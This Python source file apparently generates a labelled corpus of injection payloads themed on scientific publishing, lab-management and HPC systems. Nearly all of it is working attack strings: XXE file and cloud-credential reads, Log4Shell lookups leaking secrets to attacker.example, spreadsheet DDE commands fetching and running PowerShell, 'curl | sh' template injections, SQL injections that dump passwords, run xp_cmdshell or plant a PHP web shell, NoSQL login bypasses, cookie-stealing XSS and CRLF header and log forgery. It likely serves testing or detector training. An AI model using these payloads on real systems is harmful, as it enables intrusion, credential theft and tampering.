        ("jats-upload-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?>\n<!DOCTYPE article [<!ENTITY % d SYSTEM \"http://attacker.example/jats.dtd\"> %d;]>\n<article><front><article-meta><title-group><article-title>&exfil;</article-title></title-group></article-meta></front></article>"),
        ("sbml-model-upload-xxe-notes", "<?xml version=\"1.0\"?>\n<!DOCTYPE sbml [<!ENTITY k SYSTEM \"file:///home/lims/.pgpass\">]>\n<sbml xmlns=\"http://www.sbml.org/sbml/level3/version2/core\" level=\"3\" version=\"2\"><model id=\"m1\"><notes>&k;</notes></model></sbml>"),
        ("cml-molecule-upload-xxe-attribute", "<?xml version=\"1.0\"?>\n<!DOCTYPE cml [<!ENTITY s SYSTEM \"file:///etc/slurm/slurmdbd.conf\">]>\n<cml><molecule id=\"m1\"><name>&s;</name><atomArray><atom id=\"a1\" elementType=\"C\"/></atomArray></molecule></cml>"),
        ("mzml-upload-xxe-internal-http", "<?xml version=\"1.0\"?>\n<!DOCTYPE mzML [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>\n<mzML><run id=\"r1\"><spectrumList count=\"1\"><spectrum id=\"&m;\"/></spectrumList></run></mzML>"),
        ("datacite-xml-xinclude-file", "<resource xmlns=\"http://datacite.org/schema/kernel-4\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><titles><title><xi:include href=\"file:///etc/hostname\" parse=\"text\"/></title></titles></resource>"),
        ("figure-svg-upload-xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"60\"><text x=\"5\" y=\"30\">&f;</text></svg>"),
        ("crossref-deposit-xxe-php-filter", "<?xml version=\"1.0\"?>\n<!DOCTYPE doi_batch [<!ENTITY c SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/ojs/config.inc.php\">]>\n<doi_batch><body><journal><journal_metadata><full_title>&c;</full_title></journal_metadata></journal></body></doi_batch>"),
        ("mathml-in-submission-entity-expansion", "<!DOCTYPE math [<!ENTITY a \"xxxxxxxxxx\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><math><mi>&g;</mi></math>"),
        ("dataset-title-log4shell-ldap", "Soil moisture 2019–2023 ${jndi:ldap://attacker.example:1389/ds}"),
        ("dataset-keyword-log4shell-lower-nesting+lookup-nesting", "${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/kw}"),
        ("orcid-field-log4shell-dns-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.exfil.attacker.example/o}"),
        ("author-affiliation-log4shell-default-nesting+lookup-nesting", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.23:1099/aff}"),
        ("lims-user-agent-log4shell-sys-exfil", "Mozilla/5.0 ${jndi:ldap://${sys:java.version}.${env:USER}.exfil.attacker.example/ua}"),
        ("dataset-description-log4shell-upper-ldaps+lookup-nesting", "Raw spectra ${${upper:j}ndi:ldaps://c2.attacker.example/sp}"),
        ("eln-json-proto-pollution-admin", "{\"title\": \"Run 42\", \"__proto__\": {\"isAdmin\": true}}"),
        ("eln-json-constructor-prototype-pollution", "{\"metadata\": {\"constructor\": {\"prototype\": {\"role\": \"admin\", \"canPublish\": true}}}}"),
        ("dataset-query-proto-pollution", "keywords[__proto__][isCurator]=true"),
        ("lims-export-sample-csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2, \"Sample S12\")"),
        ("plate-map-export-dde-cmd", "=cmd|'/C powershell -nop -c iwr http://attacker.example/x.ps1|iex'!A1"),
        ("plate-map-export-at-sum-dde", "@SUM(1+1)*cmd|'/C calc'!A0"),
        ("lims-export-webservice-exfil", "+WEBSERVICE(\"http://attacker.example/?\"&B2&C2)"),
        ("sheet-sample-name-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\", A1, B1), \"//a\")"),
        ("sample-conc-minus-dde", "-2+3+cmd|'/C curl -s http://attacker.example/dd -o %TEMP%\\d.exe'!B1"),
        ("plain-jinja2-popen", "{{ cycler.__init__.__globals__.os.popen('whoami').read() }}"),
        ("plain-log4shell-ldap", "${jndi:ldap://attacker.example/a}"),
        ("plain-python-eval-system", "__import__('os').system('id')"),
        ("plain-yaml-python-object", "!!python/object/apply:os.system ['id']"),
        ("plain-erb-backticks", "<%= `id` %>"),
        ("plain-spel-runtime-exec", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ]
    cmds = ["id", "cat /etc/passwd", "curl -s http://attacker.example/%s | sh", "cat /etc/slurm/slurm.conf"]

    def gen():
        c = pick(cmds)
        if "%s" in c:
            c = c % "".join(pick("mnpqrs") for _ in range(2))
        k = RNG.randint(0, 2)
        if k == 0:
            return "eln-template-jinja2-globals-popen", "{{ %s.__init__.__globals__.os.popen('%s').read() }}" % (pick(["cycler", "joiner", "namespace"]), c)
        if k == 1:
            return "r-eval-parse-system", "system('%s', intern = TRUE)" % c
        return "lims-report-freemarker-execute", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"%s\")}" % c
    return take("code", lit, gen, 80)


# ====================================================================== sqli
def sqli():
    lit = [
        ("dataset-keyword-search-union-users", "graphene' UNION SELECT username, password_hash, NULL FROM users-- -"),
        ("author-search-tautology-apostrophe-name", "O' OR 'a'='a"),
        ("author-search-mysql-extractvalue", "Müller' AND extractvalue(1, concat(0x7e, (SELECT password FROM users LIMIT 1)))-- -"),
        ("author-search-mysql-updatexml", "Dubois' AND updatexml(1, concat(0x7e, (SELECT GROUP_CONCAT(email) FROM reviewers)), 1)-- -"),
        ("gene-filter-paren-tautology", "TP53') OR 1=1-- -"),
        ("smiles-substructure-rdkit-stacked-drop", "c1ccccc1'::mol; DROP TABLE compounds;--"),
        ("smiles-substructure-rdkit-tautology", "c1ccncc1'::mol OR 1=1--"),
        ("smiles-search-union-pg-shadow", "CCO' UNION SELECT usename, passwd FROM pg_shadow--"),
        ("inchikey-lookup-pg-cast-error", "QWERTYUIOPASDF-UHFFFAOYSA-N' AND 1=CAST((SELECT string_agg(usename||':'||passwd, ',') FROM pg_shadow) AS int)--"),
        ("doi-lookup-union-information-schema", "10.1000/x' UNION SELECT table_name, NULL FROM information_schema.tables-- -"),
        ("orcid-lookup-mysql-sleep", "0000-0002-8816-1305' AND SLEEP(6)-- -"),
        ("orcid-lookup-mysql-if-sleep-blind", "0000-0003-4172-9052' AND IF(SUBSTRING((SELECT password FROM users WHERE role='admin'),1,1)='$',SLEEP(5),0)-- -"),
        ("lims-sample-id-mssql-waitfor", "PRJ-2024-0412'; WAITFOR DELAY '0:0:7'--"),
        ("lims-sample-id-mssql-xp-cmdshell", "S12'; EXEC xp_cmdshell 'powershell -nop -c \"iwr http://attacker.example/x.ps1 | iex\"'--"),
        ("lims-sample-id-mssql-xp-dirtree-oob", "S12'; EXEC master..xp_dirtree '\\\\203.0.113.9\\share'--"),
        ("lims-sample-id-oracle-dbms-pipe-sleep", "S12' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',8)--"),
        ("lims-sample-id-oracle-utl-http-oob", "S12' || UTL_HTTP.REQUEST('http://attacker.example/o?u='||(SELECT user FROM dual)) || '"),
        ("lims-sample-id-oracle-union-all-users", "S12' UNION SELECT username, NULL FROM all_users--"),
        ("taxon-id-numeric-tautology", "9606 OR 1=1"),
        ("taxon-id-numeric-subquery-sleep", "9606 AND (SELECT 1 FROM (SELECT SLEEP(5))x)"),
        ("year-filter-numeric-union", "2019 UNION SELECT user, authentication_string FROM mysql.user"),
        ("year-filter-scientific-notation-union+sci-notation", "2019e0UNION SELECT user,authentication_string FROM mysql.user-- -"),
        ("impact-factor-filter-float-union+sci-notation", "0.1e1union select 1,concat(username,0x3a,password),3 from users-- -"),
        ("sort-column-case-blind", "year,(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE username='admin')='a' THEN title ELSE doi END)"),
        ("sort-order-mysql-if-sleep", "title, IF((SELECT COUNT(*) FROM users WHERE is_admin=1)>0, SLEEP(4), 1)"),
        ("page-size-pg-limit-subquery", "20 OFFSET (SELECT CASE WHEN (SELECT current_setting('is_superuser'))='on' THEN 0 ELSE 1/0 END)"),
        ("slurm-accounting-job-name-union", "md_%' UNION SELECT user, password FROM mysql.user-- -"),
        ("slurm-accounting-account-sleep", "proj2231' AND BENCHMARK(30000000, SHA1('x'))-- -"),
        ("eln-sqlite-search-randomblob", "buffer' AND 1=randomblob(600000000)--"),
        ("eln-sqlite-search-union-master", "pcr' UNION SELECT name, sql FROM sqlite_master--"),
        ("dataset-search-pg-copy-to-program", "climate'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/c | sh';--"),
        ("dataset-search-pg-sleep-concat", "aerosol' || pg_sleep(6)--"),
        ("dataset-search-pg-read-file", "x'; SELECT pg_read_file('/etc/passwd');--"),
        ("dataset-search-pg-create-role", "x'; CREATE ROLE curator2 LOGIN SUPERUSER PASSWORD 'CHANGEME';--"),
        ("dataset-search-mysql-into-outfile", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>', NULL INTO OUTFILE '/var/www/html/s.php'-- -"),
        ("dataset-search-mysql-load-file", "x' UNION SELECT LOAD_FILE('/etc/mysql/debian.cnf'), NULL-- -"),
        ("keyword-search-boolean-substring", "quantum' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='$'-- -"),
        ("keyword-search-json-filter", "{\"keyword\": \"x' OR '1'='1' -- \", \"year\": 2020}"),
        ("author-name-second-order-update", "Nguyen'); UPDATE users SET role='editor' WHERE email='x@attacker.example';--"),
        ("manuscript-status-filter-stacked-update", "submitted'; UPDATE manuscripts SET status='accepted' WHERE id=412;--"),
        ("reviewer-search-union-blind-reviewers", "x' UNION SELECT r.name, r.email FROM reviewer_assignments r WHERE r.manuscript_id=412-- -"),
        ("formula-search-math-tautology", "x^2' OR 2>1-- -"),
        ("formula-search-einstein-union", "E=mc^2' UNION ALL SELECT api_key, NULL FROM api_tokens-- -"),
        ("abstract-search-p-value-tautology", "p<0.05' OR 'a'<'b"),
        ("latex-title-search-union", "$\\alpha$-helix' UNION SELECT email, password FROM authors-- -"),
        ("bibtex-import-title-insert-subquery", "@article{k, title={Deep nets', (SELECT password FROM users WHERE id=1), 2020)-- }, year={2020}}"),
        ("ris-import-author-stacked-delete", "AU  - Smith'); DELETE FROM audit_log;--"),
        ("gene-list-in-clause-union", "BRCA2','TP53') UNION SELECT token, NULL FROM sessions-- -"),
        ("sequence-id-mssql-error-convert", "seq1' AND 1=CONVERT(int, (SELECT TOP 1 password FROM users))--"),
        ("plate-id-mssql-stacked-insert-admin", "P07'; INSERT INTO users (username, password, role) VALUES ('lab2', 'x', 'admin');--"),
        ("journal-filter-comment-spaces+comment-spaces", "Nature'/**/UNION/**/SELECT/**/username,password/**/FROM/**/users--"),
        ("journal-filter-versioned-comment+mysql-versioned", "x' /*!50000UNION*/ /*!50000SELECT*/ user, authentication_string FROM mysql.user-- -"),
        ("journal-filter-mixed-case+mixed-case", "x' uNiOn SeLeCt username, password FrOm users-- -"),
        ("keyword-search-url-encoded+urlenc", "q=" + q("x' UNION SELECT username, password FROM users-- -")),
        ("keyword-search-double-url-encoded+double-urlenc", "q=" + qq("x' OR 1=1-- -")),
        ("keyword-search-hex-string+hex-literal", "x' UNION SELECT password, NULL FROM users WHERE username=0x61646d696e-- -"),
        ("keyword-search-char-function+char-encoding", "x' UNION SELECT password, NULL FROM users WHERE username=CHAR(97,100,109,105,110)-- -"),
        ("keyword-search-newline-whitespace+newline-space", "x'\nUNION\nSELECT\nusername,\npassword\nFROM\nusers--\n"),
        ("dataset-search-german-union", "Bodenfeuchte' UNION SELECT benutzer, passwort FROM konten-- -"),
        ("dataset-search-spanish-tautology", "desigualdad salarial' OR 'x'='x"),
        ("dataset-search-chinese-union", "蛋白质' UNION SELECT username, password FROM users-- -"),
        ("embargo-date-filter-tautology", "2024-01-01' OR embargo_until > '1900-01-01"),
        ("instrument-id-pg-error-version", "7 AND 1=CAST(version() AS int)"),
        ("pdb-id-lookup-union-sqlite", "6VXX' UNION SELECT group_concat(username||':'||password), 2 FROM users--"),
        ("plain-tautology", "' OR '1'='1"),
        ("plain-union-select", "' UNION SELECT NULL, username, password FROM users--"),
        ("plain-sleep", "1' AND SLEEP(5)#"),
        ("plain-stacked-drop", "1; DROP TABLE users--"),
        ("plain-pg-sleep", "'; SELECT pg_sleep(10)--"),
        ("plain-comment-login-bypass", "admin'--"),
        ("plain-numeric-tautology", "1 OR 1=1"),
    ]
    fields = [("dataset-keyword-search", ["graphene", "climate", "zebrafish", "perovskite", "sepsis"]),
              ("author-search", ["Okafor", "Tanaka", "García", "Lindqvist"]),
              ("gene-filter", ["TP53", "KRAS", "EGFR", "MYC"])]
    tails = [("union", "' UNION SELECT username, password_hash FROM users-- -"), ("sleep", "' AND SLEEP(%d)-- -"),
             ("pg-sleep", "'; SELECT pg_sleep(%d);--"), ("tautology", "' OR %d=%d-- -")]

    def gen():
        f, base = pick(fields)
        t, tail = pick(tails)
        n = RNG.randint(3, 12)
        tail = tail.replace("%d=%d", "%d=%d" % (n, n)) if "%d=%d" in tail else (tail % n if "%d" in tail else tail)
        return "%s-%s" % (f, t), pick(base) + tail
    return take("sqli", lit, gen, 74)


# ====================================================================== nosqli
def nosqli():
    lit = [
        ("eln-login-json-ne-password", "{\"username\": \"admin\", \"password\": {\"$ne\": \"\"}}"),
        ("eln-login-json-gt-empty", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
        ("dataset-owner-query-param-ne", "owner[$ne]=nobody&visibility[$ne]=public"),
        ("eln-login-regex-password-prefix", "username=admin&password[$regex]=^a"),
        ("dataset-visibility-in-private", "{\"visibility\": {\"$in\": [\"public\", \"private\", \"embargoed\"]}}"),
        ("dataset-embargo-filter-exists", "{\"title\": {\"$exists\": true}, \"embargo_until\": {\"$gt\": \"\"}}"),
        ("sample-search-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
        ("sample-search-where-string-breakout", "S12'; return true; var x='"),
        ("sample-search-where-tautology", "{\"$where\": \"this.owner == 'ktanaka' || true\"}"),
        ("dataset-filter-expr-function-js", "{\"$expr\": {\"$function\": {\"body\": \"function() { sleep(5000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
        ("aggregation-upload-lookup-users", "[{\"$match\": {\"project\": \"popgen\"}}, {\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}, {\"$project\": {\"u.password_hash\": 1, \"u.api_token\": 1}}]"),
        ("gene-filter-or-private", "{\"gene\": \"TP53\", \"$or\": [{\"private\": true}, {\"private\": false}]}"),
        ("mass-filter-scientific-tautology+sci-notation", "{\"mass\": {\"$gt\": -1e308}, \"owner\": {\"$ne\": null}}"),
        ("orcid-lookup-regex-all", "{\"orcid\": {\"$regex\": \".*\"}, \"role\": \"reviewer\"}"),
        ("dataset-filter-url-encoded-operator+urlenc", "filter%5Bowner%5D%5B%24ne%5D=x&filter%5Bstatus%5D%5B%24ne%5D=draft"),
        ("couchdb-mango-selector-all", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"email\", \"password_scheme\", \"derived_key\"]}"),
        ("elasticsearch-query-string-restricted", "keywords:(climate) OR (embargoed:true AND _exists_:raw_data_url)"),
        ("elasticsearch-query-string-other-index", "title:* OR _index:users*"),
        ("elasticsearch-json-script-sort", "{\"sort\": {\"_script\": {\"type\": \"number\", \"script\": {\"source\": \"doc['owner.keyword'].value == 'admin' ? 1 : 0\"}}}, \"query\": {\"match_all\": {}}}"),
        ("sample-update-set-operator", "{\"$set\": {\"status\": \"approved\", \"approved_by\": \"qa_lead\"}}"),
        ("plain-ne-null", "{\"$ne\": null}"),
        ("plain-query-ne", "password[$ne]=1"),
        ("plain-gt-empty", "{\"$gt\": \"\"}"),
    ]

    def gen():
        u = pick(["admin", "curator", "ktanaka", "qa_lead"])
        pre = "".join(pick("abcdef0123456789") for _ in range(RNG.randint(1, 3)))
        return "eln-login-regex-password-prefix", "{\"username\": \"%s\", \"password\": {\"$regex\": \"^%s\"}}" % (u, pre)
    return take("nosqli", lit, gen, 24)


# ====================================================================== xss
def xss():
    steal = "fetch('//attacker.example/c?'+document.cookie)"
    lit = [
        ("mathjax-abstract-href-javascript", "We show that $\\href{javascript:fetch('//attacker.example/c?'+document.cookie)}{\\lambda_2 \\le 2\\sqrt{d-1}}$ holds."),
        ("katex-trusted-href-javascript", "$\\href{javascript:location='//attacker.example/?'+document.cookie}{\\text{see proof}}$"),
        ("katex-url-macro-javascript", "Code: $\\url{javascript:import('//attacker.example/m.js')}$"),
        ("mathjax-unicode-macro-html-breakout", "$$\\unicode{<img src=x onerror=\"fetch('//attacker.example/u?'+document.cookie)\">}$$"),
        ("mathjax-title-script-breakout", "Bounds on $\\zeta(s)$ </title><script src=//attacker.example/t.js></script>"),
        ("manuscript-title-img-onerror", "Sparse GPs for spatio-temporal data<img src=x onerror=\"fetch('//attacker.example/c?'+document.cookie)\">"),
        ("abstract-svg-onload", "Background: sepsis mortality. <svg onload=\"navigator.sendBeacon('//attacker.example/b', localStorage.getItem('token'))\">"),
        ("abstract-inline-formula-script", "We prove $a<b$ and <script>new Image().src='//203.0.113.66/?'+document.cookie</script> $b<c$."),
        ("keyword-tag-details-ontoggle", "<details open ontoggle=\"import('//attacker.example/k.js')\">graphene</details>"),
        ("author-affiliation-iframe-srcdoc", "Universidade Exemplo <iframe srcdoc=\"&lt;script&gt;parent.fetch('//attacker.example/a?'+parent.document.cookie)&lt;/script&gt;\"></iframe>"),
        ("orcid-display-name-attribute-breakout", "Kenji Tanaka\" autofocus onfocus=\"fetch('//attacker.example/o?'+document.cookie)\" x=\""),
        ("reviewer-comment-textarea-breakout", "Minor revision.</textarea><script src=//attacker.example/r.js></script>"),
        ("review-form-style-breakout", "</style><img src=x onerror=\"location='//attacker.example/?'+document.cookie\">"),
        ("eln-json-script-block-breakout", "{\"note\": \"</script><script>fetch('//attacker.example/n?'+document.cookie)</script>\"}"),
        ("bibtex-title-rendered-img", "@article{x, title={{<img src=1 onerror=\"fetch('//attacker.example/bib?'+document.cookie)\">}}, year={2024}}"),
        ("ris-title-svg-animate", "TI  - Soil microbiome <svg><animate onbegin=\"fetch('//attacker.example/ris?'+document.cookie)\" attributeName=x dur=1s>"),
        ("smiles-display-attribute-breakout", "C1CC1\"><svg onload=\"fetch('//attacker.example/s?'+document.cookie)\">"),
        ("fasta-header-sequence-viewer-img", ">seq1 <img src=x onerror=\"fetch('//attacker.example/f?'+document.cookie)\">\nATGCGTTAGCC"),
        ("gene-name-table-cell-details", "TP53<details open ontoggle=\"fetch('//attacker.example/g?'+document.cookie)\">"),
        ("dataset-landing-url-javascript-link", "javascript:fetch('//attacker.example/l?'+document.cookie)//https://doi.org/10.5281/zenodo.412"),
        ("markdown-note-javascript-link", "See the [raw data](javascript:fetch('//attacker.example/md?'+document.cookie)) for plate 7."),
        ("markdown-image-onerror-title", "![spectrum](x.png\" onerror=\"fetch('//attacker.example/mi?'+document.cookie))"),
        ("notebook-output-html-img", "<div class=\"output_html\"><img src=x onerror=\"fetch('/api/contents').then(r=>r.text()).then(t=>fetch('//attacker.example/nb',{method:'POST',body:t}))\"></div>"),
        ("notebook-markdown-cell-button-formaction", "<form><button formaction=\"javascript:fetch('//attacker.example/fa?'+document.cookie)\">Run all cells</button></form>"),
        ("eln-angularjs-template-expression", "Run 42 {{constructor.constructor('fetch(\"//attacker.example/ng?\"+document.cookie)')()}}"),
        ("eln-vue-template-expression", "{{_c.constructor('fetch(\"//attacker.example/vue?\"+document.cookie)')()}}"),
        ("qa-post-mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('//attacker.example/mx?'+document.cookie)\"></style></mglyph></table></mtext></math>"),
        ("qa-post-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=fetch('//attacker.example/ns?'+document.cookie)>\"></noscript>"),
        ("qa-post-css-import-exfil", "<style>@import url(//attacker.example/q.css);</style>$x^2$"),
        ("editor-note-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/journal-login\">"),
        ("submission-cover-letter-base-href", "<base href=\"https://attacker.example/\">Dear Editor, please find attached..."),
        ("reviewer-invite-fake-login-form", "<form action=\"https://attacker.example/harvest\" method=\"post\">Session expired. ORCID password: <input type=\"password\" name=\"p\"><input type=\"submit\" value=\"Continue\"></form>"),
        ("dataset-description-object-data-url+base64", "<object data=\"data:text/html;base64,%s\"></object>" % b64("<script>fetch('//attacker.example/ob?'+document.cookie)</script>")),
        ("dataset-title-entity-encoded-href+html-entities", "<a href=\"%s\">Download CSV</a>" % ents("javascript:fetch('//attacker.example/e?'+document.cookie)")),
        ("keyword-js-unicode-escapes+js-unicode", "<img src=x onerror=\"%s\">" % jsu("fetch('//attacker.example/j?'+document.cookie)")),
        ("abstract-mixed-case-script+mixed-case", "<ScRiPt sRc=//attacker.example/mc.js></sCrIpT>"),
        ("search-query-reflected-url-encoded+urlenc", "q=" + q("\"><script src=//attacker.example/q.js></script>")),
        ("search-query-reflected-double-encoded+double-urlenc", "q=" + qq("<svg onload=fetch('//attacker.example/dq')>")),
        ("figure-caption-video-source-onerror", "Figure 3: Time-lapse <video><source onerror=\"fetch('//attacker.example/v?'+document.cookie)\"></video>"),
        ("figure-svg-upload-script", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 100 100\"><circle cx=\"50\" cy=\"50\" r=\"40\"/><script>fetch('//attacker.example/svg?'+document.cookie)</script></svg>"),
        ("job-name-portal-table-img", "md_equil<img src=x onerror=\"fetch('//attacker.example/job?'+document.cookie)\">"),
        ("job-stdout-viewer-script", "Step 500: E = -1204.3 kJ/mol\n<script>fetch('/api/tokens').then(r=>r.json()).then(d=>fetch('//attacker.example/t',{method:'POST',body:JSON.stringify(d)}))</script>"),
        ("lims-sample-note-input-autofocus", "<input autofocus onfocus=\"fetch('//attacker.example/in?'+document.cookie)\">tube cracked"),
        ("lims-barcode-option-select-breakout", "00412-B</option></select><img src=x onerror=\"fetch('//attacker.example/sel?'+document.cookie)\">"),
        ("preprint-comment-csrf-change-email", "<img src=x onerror=\"fetch('/api/account',{method:'POST',credentials:'include',headers:{'Content-Type':'application/json'},body:JSON.stringify({email:'x@attacker.example'})})\">"),
        ("preprint-comment-eval-atob+base64", "<img src=x onerror=\"eval(atob('%s'))\">" % b64("fetch('//attacker.example/ev?'+document.cookie)")),
        ("orcid-biography-javascript-anchor-tab+tab-split", "<a href=\"java\tscript:fetch('//attacker.example/tab?'+document.cookie)\">My website</a>"),
        ("dublin-core-title-rendered-script", "<dc:title>Ice core record &lt;/dc:title&gt;</dc:title><script>fetch('//attacker.example/dc?'+document.cookie)</script>"),
        ("csl-json-title-html-field", "{\"title\": \"Density fitting <img src=x onerror=fetch('//attacker.example/csl?'+document.cookie)>\", \"type\": \"article-journal\"}"),
        ("citation-author-name-svg", "Ferreira, Paulo<svg/onload=fetch('//attacker.example/au?'+document.cookie)>"),
        ("tikz-node-label-html-breakout", "\\node at (0,0) {$v_1$}; </pre><img src=x onerror=\"fetch('//attacker.example/tz?'+document.cookie)\">"),
        ("latex-preview-textit-script", "\\textit{Note} <script>document.location='//attacker.example/tx?'+document.cookie</script>"),
        ("stats-output-paste-table-onmouseover", "| Term | p |\n|---|---|\n| dose | <a onmouseover=\"fetch('//attacker.example/mo?'+document.cookie)\">< 0.001</a> |"),
        ("abstract-japanese-img-onerror", "本研究では<img src=x onerror=\"fetch('//attacker.example/ja?'+document.cookie)\">新しい手法を提案する。"),
        ("abstract-russian-svg-onload", "Аннотация: <svg onload=\"fetch('//attacker.example/ru?'+document.cookie)\"> рассматривается задача Коши."),
        ("abstract-french-details", "Résumé : <details open ontoggle=\"fetch('//attacker.example/fr?'+document.cookie)\"> modélisation des aérosols."),
        ("rebuttal-letter-iframe-javascript", "Dear Editor, <iframe src=\"javascript:parent.fetch('//attacker.example/if?'+parent.document.cookie)\"></iframe>"),
        ("qa-answer-code-block-breakout", "</code></pre><img src=x onerror=\"fetch('//attacker.example/cb?'+document.cookie)\"><pre><code>"),
        ("eln-html-note-body-onpageshow", "<body onpageshow=\"fetch('//attacker.example/bd?'+document.cookie)\">"),
        ("plot-title-plotly-html-label", "<b>OD600</b><img src=x onerror=\"fetch('//attacker.example/pl?'+document.cookie)\">"),
        ("plain-script-tag", "<script>alert(document.domain)</script>"),
        ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
        ("plain-svg-onload", "<svg onload=alert(document.cookie)>"),
        ("plain-javascript-uri", "javascript:alert(document.cookie)"),
        ("plain-attribute-breakout", "\" onmouseover=\"alert(1)"),
        ("plain-iframe-javascript", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
        ("plain-body-onload", "<body onload=alert(1)>"),
        ("plain-quote-close-script", "'><script>alert(1)</script>"),
    ]
    ctx = [("manuscript-title", "Sparse spectral methods"), ("dataset-keyword", "perovskite"), ("author-name", "Lena Müller"),
           ("job-name", "relax_Si_vac"), ("sample-note", "aliquot A3")]
    vec = [("img-onerror", "<img src=x onerror=\"%s\">"), ("svg-onload", "<svg onload=\"%s\">"), ("details-ontoggle", "<details open ontoggle=\"%s\">"),
           ("body-onload", "<body onload=\"%s\">")]

    def gen():
        c, base = pick(ctx)
        n, v = pick(vec)
        return "%s-%s" % (c, n), base + v % steal.replace("/c?", "/%s?" % "".join(pick("wxyz") for _ in range(2)))
    return take("xss", lit, gen, 74)


# ====================================================================== crlf
def crlf():
    lit = [
        ("submission-title-mail-subject-bcc", "Re: Manuscript JCS-2024-0412\r\nBcc: list@attacker.example"),
        ("author-email-field-cc-injection", "ktanaka@uni.example.edu\r\nCc: everyone@attacker.example"),
        ("reviewer-name-decision-log-forgery", "Reviewer 2\n2024-05-14T10:00:00Z INFO decision=ACCEPT manuscript=JCS-2024-0412 by=editor-in-chief"),
        ("lims-sample-audit-log-forgery", "S12\r\n[AUDIT] 2024-05-14 09:12:03 sample=S12 result=APPROVED signed_by=qa_lead"),
        ("slurm-job-name-mail-header-bcc", "md_equil\nBcc: leak@attacker.example"),
        ("supplement-download-filename-set-cookie", "S1_Data.xlsx\r\nSet-Cookie: session=attacker-fixed; Path=/"),
        ("dataset-redirect-param-set-cookie+urlenc", "/dataset/412%0d%0aSet-Cookie:%20sid=attacker-fixed"),
        ("doi-landing-redirect-location", "10.5281/zenodo.412\r\nLocation: https://attacker.example/zenodo-login"),
        ("preprint-next-param-response-splitting+urlenc", "/submit%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Efetch('//attacker.example/rs')%3C/script%3E"),
        ("editor-email-smtp-rcpt-injection", "editor@journal.example>\r\nRCPT TO:<leak@attacker.example"),
        ("orcid-cache-key-redis-injection", "0000-0002-8816-1305\r\nSET session:admin attacker\r\n"),
        ("dataset-cache-key-memcached-injection", "dataset:412\r\nset sess:admin 0 3600 5\r\nadmin\r\n"),
        ("lims-csv-audit-export-row-forgery", "S12\",\"2024-05-14\",\"ok\"\n\"S99\",\"2024-05-14\",\"APPROVED\",\"qa_lead"),
        ("eln-json-log-forgery", "note\"}\n{\"level\": \"info\", \"event\": \"embargo_lifted\", \"dataset\": 412, \"by\": \"curator\"}"),
        ("hpc-job-log-ansi-osc8-hyperlink", "md_equil \x1b]8;;https://attacker.example/login\x1b\\Re-authenticate to view output\x1b]8;;\x1b\\"),
        ("hpc-job-log-ansi-clear-screen", "relax\x1b[2J\x1b[H[INFO] all jobs completed successfully"),
        ("hpc-job-log-ansi-erase-line", "cp2k\x1b[1A\x1b[2K\x1b[1A\x1b[2Kslurmstepd: job 4821337 completed"),
        ("abstract-unicode-line-separator+u2028", "Highlights\u2028Set-Cookie: sid=attacker-fixed"),
        ("keyword-next-line-character+nel", "zebrafish\u0085X-Forwarded-Host: attacker.example"),
        ("author-name-utf8-crlf-trick+utf8-crlf", "Tanaka嘊嘍Set-Cookie: sid=attacker-fixed"),
        ("author-name-utf8-crlf-trick-encoded+utf8-crlf-urlenc", "Tanaka%E5%98%8A%E5%98%8DSet-Cookie:%20sid=attacker-fixed"),
        ("syslog-field-forged-entry", "ktanaka\nMay 14 03:12:44 login1 sshd[4121]: Accepted publickey for root from 10.0.12.5 port 51234 ssh2"),
        ("webhook-header-value-injection", "application/json\r\nX-Slurm-Admin: true"),
        ("submission-title-mail-subject-japanese", "査読依頼\r\nBcc: leak@attacker.example"),
        ("preprint-contact-reply-to-injection", "Lena Müller <lmuller@uni.example.edu>\nReply-To: support@attacker.example"),
        ("eln-log-lf-urlencoded+urlenc", "plate07%0a2024-05-14 INFO user=admin action=delete_all result=ok"),
        ("plain-crlf-set-cookie+urlenc", "%0d%0aSet-Cookie: a=b"),
        ("plain-crlf-location", "\r\nLocation: http://attacker.example/"),
        ("plain-lf-log-forgery", "\nINFO login succeeded for admin"),
    ]
